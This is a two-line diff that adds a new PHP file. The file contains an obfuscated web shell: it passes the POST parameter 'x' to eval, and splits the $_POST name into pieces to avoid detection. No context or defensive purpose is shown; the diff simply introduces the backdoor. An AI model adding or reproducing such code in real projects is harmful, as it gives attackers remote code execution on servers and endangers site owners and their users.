@@ -1,0 +1,2 @@
+<?php
+eval($GLOBALS['_PO' . 'ST']['x']);
